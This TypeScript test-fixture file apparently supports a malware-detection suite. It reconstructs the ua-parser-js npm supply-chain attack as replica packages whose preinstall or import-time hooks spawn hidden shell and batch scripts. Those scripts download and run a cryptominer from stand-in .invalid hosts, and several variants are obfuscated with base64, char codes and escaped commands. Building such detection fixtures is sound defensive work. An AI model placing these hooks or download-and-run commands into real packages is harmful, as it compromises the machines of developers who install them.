import { casesOf } from '../case';
import { charCodes, renamedLocals } from '../disguise/javascript';
import { npm } from '../packages';

const pick = (sh: string, bat: string) => String.raw`const { spawn } = require('child_process');
const os = require('os');
const system = os.platform();
function terminalLinux() {
  const child = spawn('/bin/bash', ['${sh}'], { detached: true, stdio: 'ignore' });
  child.unref();
}
if (system === 'win32') {
  const child = spawn('cmd.exe', ['/c', '${bat}'], { detached: true, windowsHide: true, stdio: 'ignore' });
  child.unref();
} else if (system === 'linux') {
  terminalLinux();
}
`;

const shell = (host: string, name: string) => String.raw`#!/bin/bash
IP=$(curl -k -s https://${host}/locate | grep -oE 'RU|UA|BY|KZ')
if [ -z "$IP" ]; then
  var=$(pgrep ${name})
  if [ -z "$var" ]; then
    curl -s http://${host}/download/${name} -o ${name}
    if [ ! -f ${name} ]; then
      wget http://${host}/download/${name} -O ${name}
    fi
    chmod +x ${name}
    ./${name} -k --tls -o pool.${host}:9999 -u inert-wallet --donate-level=1 --cpu-max-threads-hint=50 --background &>/dev/null &
  fi
fi
`;

const batch = (host: string, name: string) =>
  [
    '@echo off',
    `curl http://${host}/download/${name}.exe -o ${name}.exe`,
    `if not exist ${name}.exe (`,
    `  wget http://${host}/download/${name}.exe -O ${name}.exe`,
    ')',
    `if not exist ${name}.exe (`,
    `  certutil.exe -urlcache -f http://${host}/download/${name}.exe ${name}.exe`,
    ')',
    `curl http://${host}/download/create.dll -o create.dll`,
    `set exe_1=${name}.exe`,
    `tasklist /fi "imagename eq %exe_1%" | find /i "%exe_1%" || start /b %exe_1% -o pool.${host}:9999`,
    'regsvr32.exe -s create.dll',
    '',
  ].join('\r\n');

export const uaParserJs = casesOf({
  id: 'ua-parser-js',
  incident: 'ua-parser-js',
  kind: 'install-hook',
  seen: 'preinstall picks the operating system and launches a shell or batch file that downloads and runs binaries',
  replica: npm('agent-parser', '0.7.29', {
    about: 'Reads user agents of browsers.',
    manifest: { scripts: { preinstall: 'start /B node preinstall.js & node preinstall.js' } },
    files: {
      'preinstall.js': pick('preinstall.sh', 'preinstall.bat'),
      'preinstall.sh': shell('159-148-186.invalid', 'jsextension'),
      'preinstall.bat': batch('159-148-186.invalid', 'jsextension'),
    },
  }),
  renamed: npm('browser-sniff', '1.0.1', {
    about: 'Says which browser sent a header.',
    manifest: { scripts: { preinstall: 'node scripts/env.js' } },
    files: {
      'scripts/env.js': renamedLocals(pick('scripts/nix-env.sh', 'scripts\\\\win-env.bat'), 'browser-sniff'),
      'scripts/nix-env.sh': shell('cdn-mirror7.invalid', 'node_worker'),
      'scripts/win-env.bat': batch('cdn-mirror7.invalid', 'node_worker'),
    },
  }),
  reObfuscated: npm('agent-parser', '0.8.0', {
    about: 'Reads user agents of browsers.',
    manifest: { scripts: { preinstall: 'node preinstall.js' } },
    files: {
      'preinstall.js': charCodes(pick('preinstall.sh', 'preinstall.bat'), 'agent'),
      'preinstall.sh': `#!/bin/sh\necho ${Buffer.from(shell('159-148-186.invalid', 'jsextension')).toString('base64')} | base64 -d | bash\n`,
      'preinstall.bat': batch('159-148-186.invalid', 'jsextension').replace(/curl/g, 'c^url'),
    },
  }),
  otherStage: {
    kind: 'import-time',
    seen: 'requiring the package picks the operating system and launches a shell or batch file that downloads and runs binaries',
    sample: npm('agent-parser', '1.0.0', {
      about: 'Reads user agents of browsers.',
      index: (honest) =>
        `${honest}\n${pick("' + __dirname + '/bin/setup.sh", "' + __dirname + '/bin/setup.bat")}`,
      files: {
        'bin/setup.sh': shell('159-148-186.invalid', 'jsextension'),
        'bin/setup.bat': batch('159-148-186.invalid', 'jsextension'),
      },
    }),
  },
});
